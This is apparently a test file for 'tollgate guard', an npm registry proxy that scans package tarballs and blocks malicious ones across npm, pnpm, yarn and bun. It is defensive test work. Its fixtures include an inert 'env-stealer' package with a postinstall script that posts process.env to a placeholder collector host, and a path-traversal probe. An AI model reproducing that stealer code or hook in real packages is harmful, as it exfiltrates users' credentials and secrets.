// `tollgate guard`: the registry proxy in front of real npm, on the loopback registry. Every npm run
// here passes --ignore-scripts, so a guard bug can never run a fixture's lifecycle script.
import { spawn } from 'node:child_process';
import fs from 'node:fs';
import http from 'node:http';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { loadNpmConfig } from '../src/fetch/npm-config.js';
import { EMPTY_CONFIG, parseConfig } from '../src/check/config.js';
import { RULES } from '../heuristics/index.js';
import { TarballScanner } from '../src/guard/scanner.js';
import { startGuardServer, type GuardServer, type DecisionEvent } from '../src/guard/server.js';
import { guardedEnv } from '../src/guard/env.js';
import type { Policy } from '../src/guard/decision.js';
import { startRegistry, type FixturePackage, type TestRegistry } from './helpers/registry.js';
import { runCli } from './helpers/run-cli.js';

const pj = (name: string, version: string, extra: Record<string, unknown> = {}) => JSON.stringify({ name, version, main: 'index.js', ...extra });
// Inert: the host is under .invalid and nothing here is ever run (npm always gets --ignore-scripts).
const STEALER = "const https = require('https');\nconst body = JSON.stringify(process.env);\nconst req = https.request('https://collector.invalid/c', { method: 'POST' });\nreq.on('error', () => {});\nreq.end(body);\n";
export const GUARD_PKGS: FixturePackage[] = [
  { name: 'tidy-lib', version: '1.0.0', files: { 'package.json': pj('tidy-lib', '1.0.0'), 'index.js': 'module.exports = (a, b) => a + b;\n' } },
  { name: 'tidy-lib', version: '1.1.0', files: { 'package.json': pj('tidy-lib', '1.1.0'), 'index.js': 'module.exports = (a, b) => b + a;\n' } },
  { name: 'env-stealer', version: '2.3.1', files: { 'package.json': pj('env-stealer', '2.3.1', { scripts: { postinstall: 'node setup.js' } }), 'index.js': 'module.exports = {};\n', 'setup.js': STEALER } },
  { name: 'tampered', version: '1.0.0', corruptTarball: true, files: { 'package.json': pj('tampered', '1.0.0'), 'index.js': 'module.exports = 1;\n' } },
  // Integrity matches, but it is not a gzip tarball: the scan cannot read it.
  { name: 'unreadable', version: '1.0.0', rawTarball: Buffer.from('this is not a gzip stream, only bytes that claim to be a package\n'.repeat(8)), files: {} },
  { name: '@acme/util', version: '0.1.0', files: { 'package.json': pj('@acme/util', '0.1.0'), 'index.js': 'exports.x = 1;\n' } },
];

let registry: TestRegistry;
let tmp: string;
const saved: Record<string, string | undefined> = {};
const ENV_KEYS = ['HOME', 'npm_config_userconfig', 'npm_config_cache', 'npm_config_registry', 'TOLLGATE_CACHE_DIR', 'npm_config_globalconfig', 'npm_config_update_notifier'];

beforeAll(async () => {
  registry = await startRegistry(GUARD_PKGS);
  tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'tollgate-guard-'));
  fs.mkdirSync(path.join(tmp, 'home'));
  fs.writeFileSync(path.join(tmp, 'home', '.npmrc'), `registry=${registry.url}/\n`);
  for (const k of ENV_KEYS) saved[k] = process.env[k];
  // Nothing may touch the real user config, npm cache or results cache.
  process.env.HOME = path.join(tmp, 'home');
  process.env.npm_config_userconfig = path.join(tmp, 'home', '.npmrc');
  process.env.npm_config_globalconfig = path.join(tmp, 'home', 'globalnpmrc');
  process.env.npm_config_cache = path.join(tmp, 'npm-cache');
  process.env.npm_config_registry = `${registry.url}/`;
  process.env.npm_config_update_notifier = 'false';
  process.env.TOLLGATE_CACHE_DIR = path.join(tmp, 'tollgate-cache');
});

afterAll(async () => {
  for (const k of ENV_KEYS) {
    if (saved[k] === undefined) delete process.env[k];
    else process.env[k] = saved[k];
  }
  await registry?.close();
  fs.rmSync(tmp, { recursive: true, force: true });
});

const policy = (over: Partial<Policy> = {}): Policy => ({ failOn: 'malicious', failOpen: false, config: { ...EMPTY_CONFIG, rulesOff: new Set() }, ...over });

async function withGuard<T>(run: (g: GuardServer, events: DecisionEvent[]) => Promise<T>, over: { policy?: Partial<Policy>; npmConfig?: Record<string, unknown> } = {}): Promise<T> {
  const npmConfig = over.npmConfig ?? loadNpmConfig({ cwd: tmp });
  const events: DecisionEvent[] = [];
  const scanner = new TarballScanner({ npmConfig, registrySignals: true, cacheDir: false, downloadCache: path.join(tmp, 'dl-cache') });
  const g = await startGuardServer({ npmConfig, policy: policy(over.policy), scanner, onDecision: (e) => events.push(e) });
  try {
    return await run(g, events);
  } finally {
    await g.close();
  }
}

function project(name: string, deps: Record<string, string> = {}): string {
  const dir = path.join(tmp, name);
  fs.mkdirSync(dir, { recursive: true });
  fs.writeFileSync(path.join(dir, 'package.json'), JSON.stringify({ name, version: '1.0.0', private: true, dependencies: deps }));
  return dir;
}

describe('the proxy (HTTP)', () => {
  test('a packument comes back with every tarball URL on the proxy; no ETag is passed on', async () => {
    await withGuard(async (g) => {
      const res = await fetch(`${g.url}/tidy-lib`);
      expect(res.status).toBe(200);
      expect(res.headers.get('etag')).toBeNull();
      const body = (await res.json()) as { versions: Record<string, { dist: { tarball: string; integrity: string } }> };
      expect(body.versions['1.0.0']!.dist.tarball).toBe(`${g.url}/tidy-lib/-/tidy-lib-1.0.0.tgz`);
      expect(body.versions['1.1.0']!.dist.tarball).toBe(`${g.url}/tidy-lib/-/tidy-lib-1.1.0.tgz`);
      expect(body.versions['1.0.0']!.dist.integrity).toBe(registry.integrityOf('tidy-lib', '1.0.0'));
      const scoped = (await (await fetch(`${g.url}/@acme%2futil`)).json()) as { versions: Record<string, { dist: { tarball: string } }> };
      expect(scoped.versions['0.1.0']!.dist.tarball).toBe(`${g.url}/@acme/util/-/util-0.1.0.tgz`);
    });
  });

  test('a clean tarball is served byte for byte; a malicious one gets a 403 naming the package, verdict, reason and the allow entry', async () => {
    await withGuard(async (g, events) => {
      const ok = await fetch(`${g.url}/tidy-lib/-/tidy-lib-1.0.0.tgz`);
      expect(ok.status).toBe(200);
      const bytes = Buffer.from(await ok.arrayBuffer());
      expect(`sha512-${(await import('node:crypto')).createHash('sha512').update(bytes).digest('base64')}`).toBe(registry.integrityOf('tidy-lib', '1.0.0'));
      const bad = await fetch(`${g.url}/env-stealer/-/env-stealer-2.3.1.tgz`);
      expect(bad.status).toBe(403);
      const body = (await bad.json()) as { error: string; verdict: string; reasons: string[] };
      expect(body.verdict).toBe('malicious');
      expect(body.error).toContain('env-stealer@2.3.1: malicious (');
      expect(body.error).toContain(body.reasons[0]!);
      expect(body.error).toContain('{"package": "env-stealer@2.3.1", "reason": ');
      expect(body.error).toContain('tollgate.config.json');
      expect(g.stats).toMatchObject({ requested: 2, scanned: 2, served: 1, blocked: 1 });
      expect(events.map((e) => [e.name, e.decision.action])).toEqual([['tidy-lib', 'serve'], ['env-stealer', 'refuse']]);
    });
  });

  test('a version-pinned allow in tollgate.config.json lets that version through', async () => {
    const config = parseConfig('tollgate.config.json', JSON.stringify({ allow: [{ package: 'env-stealer@2.3.1', reason: 'reviewed for the test' }] }), new Set(RULES.map((r) => r.meta.id)));
    await withGuard(async (g, events) => {
      expect((await fetch(`${g.url}/env-stealer/-/env-stealer-2.3.1.tgz`)).status).toBe(200);
      expect(events[0]!.decision).toMatchObject({ action: 'serve', note: expect.stringContaining('reviewed for the test') });
    }, { policy: { config } });
  });

  test('bytes that do not match the registry integrity are refused, even with --fail-open', async () => {
    await withGuard(async (g) => {
      const res = await fetch(`${g.url}/tampered/-/tampered-1.0.0.tgz`);
      expect(res.status).toBe(403);
      expect(((await res.json()) as { error: string }).error).toMatch(/tampered@1\.0\.0: .*does not match the registry's integrity/);
      expect(g.stats.served).toBe(0);
    }, { policy: { failOpen: true } });
  });

  test('a tarball that is not an archive is never passed as clean: an analysis gap (suspicious), refused under --fail-on suspicious', async () => {
    await withGuard(async (g, events) => {
      const res = await fetch(`${g.url}/unreadable/-/unreadable-1.0.0.tgz`);
      expect(res.status).toBe(200);
      expect(events[0]!.decision).toMatchObject({ action: 'serve', result: { verdict: 'suspicious', reasons: [expect.stringMatching(/not fully analyzed: archive contains no readable entries/)] } });
    });
    await withGuard(async (g) => {
      const res = await fetch(`${g.url}/unreadable/-/unreadable-1.0.0.tgz`);
      expect(res.status).toBe(403);
      expect(((await res.json()) as { error: string }).error).toMatch(/refused unreadable@1\.0\.0: suspicious \(not fully analyzed/);
    }, { policy: { failOn: 'suspicious' } });
  });

  test('an unknown version is refused: there is no integrity to check it against', async () => {
    await withGuard(async (g) => {
      const res = await fetch(`${g.url}/tidy-lib/-/tidy-lib-9.9.9.tgz`);
      expect(res.status).toBe(404);
      expect(((await res.json()) as { error: string }).error).toContain('no such version');
    });
  });

  test('upstream down: packuments and tarballs fail closed (502), --fail-open does not change that', async () => {
    const dead = http.createServer();
    await new Promise<void>((r) => dead.listen(0, '127.0.0.1', r));
    const port = (dead.address() as { port: number }).port;
    await new Promise<void>((r) => dead.close(() => r()));
    const npmConfig = { registry: `http://127.0.0.1:${port}/`, 'fetch-retries': '0' };
    await withGuard(async (g) => {
      const p = await fetch(`${g.url}/tidy-lib`);
      expect(p.status).toBe(502);
      expect(((await p.json()) as { error: string }).error).toMatch(/could not reach the registry/);
      const t = await fetch(`${g.url}/tidy-lib/-/tidy-lib-1.0.0.tgz`);
      expect(t.status).toBe(502);
      expect(((await t.json()) as { error: string }).error).toMatch(/tidy-lib@1\.0\.0: .*could not reach the registry.*fail closed/);
      expect(g.stats).toMatchObject({ served: 0, blocked: 1 });
    }, { npmConfig, policy: { failOpen: true } });
  });

  test('packuments stream: bytes reach the client before upstream finishes; a cut-off or non-JSON packument never arrives whole', async () => {
    const tail = `}}}}`;
    let release!: () => void;
    const held = new Promise<void>((r) => (release = r));
    const upstream = http.createServer((req, res) => {
      const name = decodeURIComponent((req.url ?? '/').slice(1));
      res.writeHead(200, { 'content-type': 'application/json' });
      const head = `{"name":"${name}","readme":"${'r'.repeat(200_000)}","versions":{"1.0.0":{"dist":{"tarball":"https://up.invalid/${name}/-/${name}-1.0.0.tgz","integrity":"sha512-QUJD"`;
      res.write(head);
      if (name === 'cut-off') return void res.destroy();
      if (name === 'not-json') return void res.end(',,}}}}');
      void held.then(() => res.end(tail));
    });
    await new Promise<void>((r) => upstream.listen(0, '127.0.0.1', r));
    const npmConfig = { registry: `http://127.0.0.1:${(upstream.address() as { port: number }).port}/`, 'fetch-retries': '0', cache: path.join(tmp, 'stream-cache') };
    try {
      await withGuard(async (g) => {
        // The first bytes arrive while upstream still holds the end of the document back.
        const res = await fetch(`${g.url}/slow-one`);
        expect(res.status).toBe(200);
        const reader = res.body!.getReader();
        const first = await reader.read();
        expect(Buffer.from(first.value!).toString('utf8')).toMatch(/^\{"name":"slow-one"/);
        release();
        let text = Buffer.from(first.value!).toString('utf8');
        for (let r = await reader.read(); !r.done; r = await reader.read()) text += Buffer.from(r.value).toString('utf8');
        const doc = JSON.parse(text) as { versions: Record<string, { dist: { tarball: string } }> };
        expect(doc.versions['1.0.0']!.dist.tarball).toBe(`${g.url}/slow-one/-/slow-one-1.0.0.tgz`);
        for (const name of ['cut-off', 'not-json']) {
          const bad = await fetch(`${g.url}/${name}`).then(async (r) => ({ status: r.status, t: await r.text() })).catch((e: Error) => ({ status: 0, t: e.message }));
          // Refused before the first byte (502), or cut off after it (fetch rejects, or what
          // arrived does not parse): a client can never install from it.
          if (bad.status === 200) expect(() => JSON.parse(bad.t), name).toThrow();
          else if (bad.status) expect([bad.status, bad.t]).toEqual([502, expect.stringMatching(name === 'not-json' ? /not valid JSON/ : /registry/)]);
        }
      }, { npmConfig });
    } finally {
      release();
      await new Promise<void>((r) => upstream.close(() => r()));
    }
  });

  test('health endpoint; paths that are not registry requests get a 404, writes a 405', async () => {
    await withGuard(async (g) => {
      const h = (await (await fetch(`${g.url}/-/tollgate/health`)).json()) as { ok: boolean; failOn: string };
      expect(h).toMatchObject({ ok: true, failOn: 'malicious' });
      expect((await fetch(`${g.url}/../etc/passwd`)).status).toBe(404);
      expect((await fetch(`${g.url}/tidy-lib`, { method: 'PUT', body: '{}' })).status).toBe(405);
    });
  });

  test("registry API calls (npm audit) go to the default registry, without the client's auth", async () => {
    await withGuard(async (g) => {
      const before = registry.requests.length;
      const r = await fetch(`${g.url}/-/npm/v1/security/advisories/bulk`, { method: 'POST', body: '{}', headers: { 'content-type': 'application/json', authorization: 'Bearer from-the-client' } });
      expect(r.status).toBe(404); // the loopback registry has no audit endpoint: its answer is passed on
      expect(registry.requests.slice(before)).toEqual(['/-/npm/v1/security/advisories/bulk']);
      expect(registry.authorizations.slice(before)).toEqual([undefined]);
    });
  });

  test('credentials stay with their registry: the package manager never sees them and they go upstream only', async () => {
    const host = new URL(registry.url).host;
    const npmConfig = { registry: `${registry.url}/`, [`//${host}/:_authToken`]: 'upstream-secret' };
    await withGuard(async (g) => {
      const before = registry.requests.length;
      const res = await fetch(`${g.url}/tidy-lib`, { headers: { authorization: 'Bearer from-the-client' } });
      const text = await res.text();
      expect(text).not.toContain('upstream-secret');
      const auths = registry.authorizations.slice(before);
      expect(auths).toContain('Bearer upstream-secret');
      expect(auths).not.toContain('Bearer from-the-client');
    }, { npmConfig });
  });
});

/** npm in a child process, asynchronously: the proxy answering it lives in this process. */
export function runPm(cmd: string, args: string[], cwd: string, env: NodeJS.ProcessEnv): Promise<{ status: number | null; out: string }> {
  // No lifecycle script of a fixture may ever run: npm and pnpm get --ignore-scripts, yarn berry
  // (which has no such flag) enableScripts=false and --mode=skip-build.
  if (env.YARN_ENABLE_SCRIPTS === 'false') expect(args).toContain('--mode=skip-build');
  else expect(args).toContain('--ignore-scripts');
  return new Promise((resolve) => {
    const child = spawn(cmd, args, { cwd, env, stdio: ['ignore', 'pipe', 'pipe'], timeout: 180_000 });
    let out = '';
    child.stdout.on('data', (d: Buffer) => (out += d));
    child.stderr.on('data', (d: Buffer) => (out += d));
    child.on('error', (err) => resolve({ status: null, out: `${out}\n${err.message}` }));
    child.on('close', (status) => resolve({ status, out }));
  });
}
const npm = (args: string[], cwd: string, env: NodeJS.ProcessEnv) => runPm('npm', [...args, '--no-audit', '--no-fund', '--loglevel=error'], cwd, env);

/** A clean package added through the proxy installs; the malicious one is refused (`refusal` is in the manager's output) and not installed. */
async function addCleanThenMalicious(g: GuardServer, dir: string, add: (spec: string) => Promise<{ status: number | null; out: string }>, refusal: string): Promise<void> {
  const ok = await add('tidy-lib@1.0.0');
  expect(ok.status, ok.out).toBe(0);
  expect(fs.existsSync(path.join(dir, 'node_modules', 'tidy-lib', 'index.js'))).toBe(true);
  expect(g.tarballRequests).toContain('/tidy-lib/-/tidy-lib-1.0.0.tgz');
  const bad = await add('env-stealer@2.3.1');
  expect(bad.status).not.toBe(0);
  expect(bad.out).toContain(refusal);
  expect(fs.existsSync(path.join(dir, 'node_modules', 'env-stealer'))).toBe(false);
  expect(g.stats.blocked).toBe(1);
}

/** An install from the lockfile succeeded, and its one tarball came through this proxy. */
function expectInstalledThroughProxy(g: GuardServer, dir: string, r: { status: number | null; out: string }): void {
  expect(r.status, r.out).toBe(0);
  expect(g.tarballRequests).toEqual(['/tidy-lib/-/tidy-lib-1.0.0.tgz']);
  expect(fs.existsSync(path.join(dir, 'node_modules', 'tidy-lib', 'index.js'))).toBe(true);
}

/**
 * yarn berry's environment through the proxy: scripts off, a project-local cache, node_modules.
 * `globalFolder` isolates berry's global mirror, which it fills even with the global cache off.
 */
function berryEnv(g: GuardServer, dir: string, immutable: boolean, globalFolder?: string): NodeJS.ProcessEnv {
  return {
    ...guardedEnv(g.url, {}),
    YARN_ENABLE_SCRIPTS: 'false',
    YARN_ENABLE_TELEMETRY: '0',
    YARN_ENABLE_GLOBAL_CACHE: 'false',
    YARN_CACHE_FOLDER: path.join(dir, '.yarn-cache'),
    YARN_NODE_LINKER: 'node-modules',
    YARN_ENABLE_IMMUTABLE_INSTALLS: String(immutable),
    ...(globalFolder ? { YARN_GLOBAL_FOLDER: globalFolder } : {}),
  };
}

describe('real npm through the proxy', () => {
  test('a clean package installs; its tarball came through the proxy', async () => {
    const dir = project('clean-app');
    await withGuard(async (g) => {
      const r = await npm(['install', '--ignore-scripts', 'tidy-lib@1.0.0'], dir, guardedEnv(g.url, {}));
      expect(r.status, r.out).toBe(0);
      expect(fs.existsSync(path.join(dir, 'node_modules', 'tidy-lib', 'index.js'))).toBe(true);
      expect(g.tarballRequests).toContain('/tidy-lib/-/tidy-lib-1.0.0.tgz');
    });
  });

  test('npm ci from a lockfile that names the upstream host directly goes through the proxy (replace-registry-host)', async () => {
    const dir = project('ci-app', { 'tidy-lib': '1.1.0' });
    fs.writeFileSync(
      path.join(dir, 'package-lock.json'),
      JSON.stringify({
        name: 'ci-app', version: '1.0.0', lockfileVersion: 3, requires: true,
        packages: {
          '': { name: 'ci-app', version: '1.0.0', dependencies: { 'tidy-lib': '1.1.0' } },
          'node_modules/tidy-lib': { version: '1.1.0', resolved: registry.tarballUrl('tidy-lib', '1.1.0'), integrity: registry.integrityOf('tidy-lib', '1.1.0') },
        },
      }),
    );
    await withGuard(async (g) => {
      const r = await npm(['ci', '--ignore-scripts'], dir, guardedEnv(g.url, {}));
      expect(r.status, r.out).toBe(0);
      expect(g.tarballRequests).toEqual(['/tidy-lib/-/tidy-lib-1.1.0.tgz']);
      expect(fs.existsSync(path.join(dir, 'node_modules', 'tidy-lib', 'package.json'))).toBe(true);
    });
  });

  test('`tollgate guard -- npm install --ignore-scripts <malicious>`: refused, not installed, non-zero exit, the reason named', async () => {
    const dir = project('evil-app');
    const cwd = process.cwd();
    process.chdir(dir);
    try {
      const run = await runCli(['guard', '--', 'npm', 'install', '--ignore-scripts', '--no-audit', '--no-fund', 'env-stealer@2.3.1']);
      expect(run.code).not.toBe(0);
      expect(fs.existsSync(path.join(dir, 'node_modules', 'env-stealer'))).toBe(false);
      expect(run.stderr).toMatch(/tollgate guard: tollgate guard refused env-stealer@2\.3\.1: malicious \(.+\)/);
      expect(run.stderr).toContain('"package": "env-stealer@2.3.1"');
      expect(run.stderr).toMatch(/1 tarball: \d scanned, \d from cache; 0 served, 1 blocked/);
    } finally {
      process.chdir(cwd);
    }
  });

  test('`tollgate guard -- npm install --ignore-scripts <clean>` installs and passes the exit code through', async () => {
    const dir = project('cli-clean-app');
    const cwd = process.cwd();
    process.chdir(dir);
    try {
      const run = await runCli(['guard', '--', 'npm', 'install', '--ignore-scripts', '--no-audit', '--no-fund', 'tidy-lib@1.1.0']);
      expect(run.code, run.stderr).toBe(0);
      expect(fs.existsSync(path.join(dir, 'node_modules', 'tidy-lib', 'index.js'))).toBe(true);
      // tidy-lib@1.1.0 is in the user's npm cache already (the npm ci test put it there): the
      // guarded npm has a cache of its own, so it still asked the proxy, which served it.
      expect(fs.readdirSync(path.join(tmp, 'npm-cache'))).toContain('_cacache');
      expect(run.stderr).toMatch(/tollgate guard: 1 tarball: [01] scanned, [01] from cache; 1 served, 0 blocked/);
      const fails = await runCli(['guard', '--quiet', '--', process.execPath, '-e', 'process.exit(7)']);
      expect(fails.code).toBe(7);
    } finally {
      process.chdir(cwd);
    }
  });
});

/**
 * pnpm and yarn berry, installed from the public npm registry into a scratch folder (with
 * --ignore-scripts). When that fails (no network), their tests are skipped and say why.
 */
describe('pnpm and yarn berry through the proxy', () => {
  let tools: { pnpm?: string; yarn?: string; yarn1?: string; why?: string; bun?: string; bunWhy?: string } = {};
  beforeAll(async () => {
    const dir = path.join(tmp, 'pm-tools');
    fs.mkdirSync(dir, { recursive: true });
    fs.writeFileSync(path.join(dir, 'package.json'), '{"name":"pm-tools","private":true}');
    const env = { ...process.env, npm_config_registry: 'https://registry.npmjs.org/' };
    const r = await runPm('npm', ['install', '--ignore-scripts', '--no-audit', '--no-fund', '--loglevel=error', 'pnpm@9', '@yarnpkg/cli-dist@4', 'yarn1@npm:yarn@1'], dir, env);
    const pnpm = path.join(dir, 'node_modules', 'pnpm', 'bin', 'pnpm.cjs');
    const yarn = path.join(dir, 'node_modules', '@yarnpkg', 'cli-dist', 'bin', 'yarn.js');
    const yarn1 = path.join(dir, 'node_modules', 'yarn1', 'bin', 'yarn.js');
    if (r.status === 0 && fs.existsSync(pnpm) && fs.existsSync(yarn) && fs.existsSync(yarn1)) tools = { pnpm, yarn, yarn1 };
    else tools = { why: `could not install pnpm and @yarnpkg/cli-dist from registry.npmjs.org (npm exited ${r.status}): ${r.out.slice(-300)}` };
    // bun is a native binary, shipped in a registry package per platform (its own install script,
    // which only links it, is not needed: the binary is in the tarball).
    if (process.platform === 'linux' && process.arch === 'x64') {
      const b = await runPm('npm', ['install', '--ignore-scripts', '--no-audit', '--no-fund', '--loglevel=error', '@oven/bun-linux-x64@1'], dir, env);
      const bun = path.join(dir, 'node_modules', '@oven', 'bun-linux-x64', 'bin', 'bun');
      if (b.status === 0 && fs.existsSync(bun)) tools.bun = bun;
      else tools.bunWhy = `could not install @oven/bun-linux-x64 from registry.npmjs.org (npm exited ${b.status}): ${b.out.slice(-300)}`;
    } else tools.bunWhy = `bun's test binary is only fetched on linux-x64 (this is ${process.platform}-${process.arch})`;
  }, 300_000);

  test('pnpm: a clean package installs through the proxy, a malicious one is refused', async (ctx) => {
    if (!tools.pnpm) return ctx.skip(`pnpm test skipped: ${tools.why}`);
    const dir = project('pnpm-app');
    await withGuard(async (g) => {
      const env = { ...guardedEnv(g.url, {}), npm_config_store_dir: path.join(tmp, 'pnpm-store'), npm_config_cache_dir: path.join(tmp, 'pnpm-cache') };
      await addCleanThenMalicious(g, dir, (spec) => runPm(process.execPath, [tools.pnpm!, 'add', '--ignore-scripts', spec], dir, env), 'env-stealer');
    });
    // pnpm-lock.yaml keeps a registry package's integrity, not its URL: a frozen install from it,
    // with an empty store, through a new proxy on another port, asks that proxy for the tarball.
    expect(fs.readFileSync(path.join(dir, 'pnpm-lock.yaml'), 'utf8')).not.toMatch(/127\.0\.0\.1/);
    fs.rmSync(path.join(dir, 'node_modules'), { recursive: true, force: true });
    await withGuard(async (g) => {
      const env = { ...guardedEnv(g.url, {}), npm_config_store_dir: path.join(tmp, 'pnpm-store-2'), npm_config_cache_dir: path.join(tmp, 'pnpm-cache-2') };
      expectInstalledThroughProxy(g, dir, await runPm(process.execPath, [tools.pnpm!, 'install', '--frozen-lockfile', '--ignore-scripts'], dir, env));
    });
  }, 180_000);

  test('yarn berry: a clean package installs through the proxy, a malicious one is refused', async (ctx) => {
    if (!tools.yarn) return ctx.skip(`yarn berry test skipped: ${tools.why}`);
    const dir = project('berry-app');
    fs.writeFileSync(path.join(dir, 'yarn.lock'), '');
    await withGuard(async (g) => {
      const env = berryEnv(g, dir, false);
      await addCleanThenMalicious(g, dir, (spec) => runPm(process.execPath, [tools.yarn!, 'add', '--mode=skip-build', spec], dir, env), '403');
    });
    // berry's lockfile names `tidy-lib@npm:1.0.0`, no URL: an immutable install from it, with empty
    // caches, through a new proxy on another port, asks that proxy for the tarball.
    expect(fs.readFileSync(path.join(dir, 'yarn.lock'), 'utf8')).not.toMatch(/127\.0\.0\.1/);
    fs.rmSync(path.join(dir, 'node_modules'), { recursive: true, force: true });
    fs.rmSync(path.join(dir, '.yarn-cache'), { recursive: true, force: true });
    await withGuard(async (g) => {
      const env = berryEnv(g, dir, true, path.join(dir, '.yarn-global-2'));
      expectInstalledThroughProxy(g, dir, await runPm(process.execPath, [tools.yarn!, 'install', '--mode=skip-build'], dir, env));
    });
  }, 180_000);

  test('yarn 1 (classic): a clean package installs through the proxy, a malicious one is refused', async (ctx) => {
    if (!tools.yarn1) return ctx.skip(`yarn 1 test skipped: ${tools.why}`);
    const dir = project('yarn1-app');
    await withGuard(async (g) => {
      const env = { ...guardedEnv(g.url, {}, process.env, path.join(tmp, 'yarn1-guard-caches')) };
      await addCleanThenMalicious(g, dir, (spec) => runPm(process.execPath, [tools.yarn1!, 'add', '--ignore-scripts', '--non-interactive', '--no-progress', spec], dir, env), '403');
    });
  }, 180_000);
  test('bun: a clean package installs through the proxy, a malicious one is refused', async (ctx) => {
    if (!tools.bun) return ctx.skip(`bun test skipped: ${tools.bunWhy}`);
    const dir = project('bun-app');
    await withGuard(async (g) => {
      const env = { ...guardedEnv(g.url, {}, process.env, path.join(tmp, 'bun-guard-caches'), tools.bun), BUN_INSTALL: path.join(tmp, 'bun-home'), DO_NOT_TRACK: '1' };
      await addCleanThenMalicious(g, dir, (spec) => runPm(tools.bun!, ['add', '--ignore-scripts', '--no-progress', spec], dir, env), '403');
    });
  }, 180_000);

  test('bun with a bun.lock: the proxy is taken back out of the lockfile it writes; recorded URLs are checked before bun starts', async (ctx) => {
    if (!tools.bun) return ctx.skip(`bun test skipped: ${tools.bunWhy}`);
    const inDir = async (dir: string, argv: string[]) => {
      const cwd = process.cwd();
      process.chdir(dir);
      try {
        return await runCli(['guard', '--', tools.bun!, ...argv, '--ignore-scripts', '--no-progress']);
      } finally {
        process.chdir(cwd);
      }
    };
    const saved = { BUN_INSTALL: process.env.BUN_INSTALL, DO_NOT_TRACK: process.env.DO_NOT_TRACK };
    process.env.BUN_INSTALL = path.join(tmp, 'bun-home');
    process.env.DO_NOT_TRACK = '1';
    try {
      const dir = project('bun-lock-app');
      const add = await inDir(dir, ['add', 'tidy-lib@1.0.0']);
      expect(add.code, add.stderr).toBe(0);
      // bun recorded the proxy's URL; the guard put the registry's back (the fixture registry is not npm's, so a URL, not "").
      const lock = fs.readFileSync(path.join(dir, 'bun.lock'), 'utf8');
      expect(lock).toContain(`"${registry.url}/tidy-lib/-/tidy-lib-1.0.0.tgz"`);
      expect(lock.match(/http:\/\/127\.0\.0\.1:\d+/g)).toEqual([registry.url]);
      expect(add.stderr).toContain("bun.lock: put back the registry URL of 1 tarball");
      // A frozen install from it: bun fetches the recorded URL itself, so the guard checked it first.
      fs.rmSync(path.join(dir, 'node_modules'), { recursive: true, force: true });
      const frozen = await inDir(dir, ['install', '--frozen-lockfile']);
      expect(frozen.code, frozen.stderr).toBe(0);
      expect(frozen.stderr).toMatch(/checking each one before it starts/);
      expect(frozen.stderr).toMatch(/1 tarball: .*1 served, 0 blocked/);
      expect(fs.existsSync(path.join(dir, 'node_modules', 'tidy-lib', 'index.js'))).toBe(true);
      // A bun.lock that pins a malicious tarball by URL: bun is never started.
      const evil = project('bun-lock-evil', { 'env-stealer': '2.3.1' });
      fs.writeFileSync(path.join(evil, 'bun.lock'), `{\n  "lockfileVersion": 1,\n  "workspaces": { "": { "name": "bun-lock-evil", "dependencies": { "env-stealer": "2.3.1" } } },\n  "packages": {\n    "env-stealer": ["env-stealer@2.3.1", "${registry.url}/env-stealer/-/env-stealer-2.3.1.tgz", {}, "${registry.integrityOf('env-stealer', '2.3.1')}"],\n  }\n}\n`);
      const bad = await inDir(evil, ['install', '--frozen-lockfile']);
      expect(bad.code).toBe(1);
      expect(bad.stderr).toMatch(/refused env-stealer@2\.3\.1: malicious/);
      expect(bad.stderr).toMatch(/was not started/);
      expect(fs.existsSync(path.join(evil, 'node_modules'))).toBe(false);
    } finally {
      for (const [k, v] of Object.entries(saved)) {
        if (v === undefined) delete process.env[k];
        else process.env[k] = v;
      }
    }
  }, 180_000);

  test('yarn 1 with an existing yarn.lock: every pinned tarball is checked before yarn starts; one refusal and yarn never runs', async (ctx) => {
    if (!tools.yarn1) return ctx.skip(`yarn 1 test skipped: ${tools.why}`);
    // The resolved URLs name the registry directly, as a yarn.lock does: yarn 1 fetches them as
    // written, past the proxy, so only the guard's own check stands between them and node_modules.
    const lock = (pkgs: Array<[string, string]>) =>
      '# THIS IS AN AUTOGENERATED FILE. DO NOT EDIT THIS FILE DIRECTLY.\n# yarn lockfile v1\n\n' +
      pkgs.map(([n, v]) => `\n${n}@${v}:\n  version "${v}"\n  resolved "${registry.url}/${n}/-/${n}-${v}.tgz"\n  integrity ${registry.integrityOf(n, v)}\n`).join('');
    const run = async (dir: string) => {
      const cwd = process.cwd();
      process.chdir(dir);
      try {
        return await runCli(['guard', '--', process.execPath, tools.yarn1!, 'install', '--frozen-lockfile', '--ignore-scripts', '--non-interactive', '--no-progress']);
      } finally {
        process.chdir(cwd);
      }
    };
    const evil = project('yarn1-lock-evil', { 'tidy-lib': '1.0.0', 'env-stealer': '2.3.1' });
    fs.writeFileSync(path.join(evil, 'yarn.lock'), lock([['tidy-lib', '1.0.0'], ['env-stealer', '2.3.1']]));
    const bad = await run(evil);
    expect(bad.code).toBe(1);
    expect(bad.stderr).toContain('yarn 1 downloads the tarball URLs yarn.lock records past the proxy');
    expect(bad.stderr).toMatch(/refused env-stealer@2\.3\.1: malicious/);
    expect(bad.stderr).toMatch(/was not started/);
    expect(bad.stderr).toMatch(/2 tarballs: .*1 served, 1 blocked/);
    expect(fs.existsSync(path.join(evil, 'node_modules'))).toBe(false);

    const ok = project('yarn1-lock-ok', { 'tidy-lib': '1.0.0' });
    fs.writeFileSync(path.join(ok, 'yarn.lock'), lock([['tidy-lib', '1.0.0']]));
    const good = await run(ok);
    expect(good.code, good.stderr).toBe(0);
    expect(fs.existsSync(path.join(ok, 'node_modules', 'tidy-lib', 'index.js'))).toBe(true);
    expect(good.stderr).toMatch(/1 tarball: .*1 served, 0 blocked/);
    // yarn 1 records the URL it downloaded from: after a guarded add, the proxy's is taken back out.
    const cwd = process.cwd();
    process.chdir(ok);
    let add;
    try {
      add = await runCli(['guard', '--', process.execPath, tools.yarn1!, 'add', 'tidy-lib@1.1.0', '--ignore-scripts', '--non-interactive', '--no-progress']);
    } finally {
      process.chdir(cwd);
    }
    expect(add.code, add.stderr).toBe(0);
    expect(add.stderr).toContain('yarn.lock: put back the registry URL of 1 tarball');
    const after = fs.readFileSync(path.join(ok, 'yarn.lock'), 'utf8');
    expect(after).toContain(`resolved "${registry.url}/tidy-lib/-/tidy-lib-1.1.0.tgz`);
    expect(after.match(/http:\/\/127\.0\.0\.1:\d+/g)!.every((u) => u === registry.url)).toBe(true);
  }, 180_000);
});
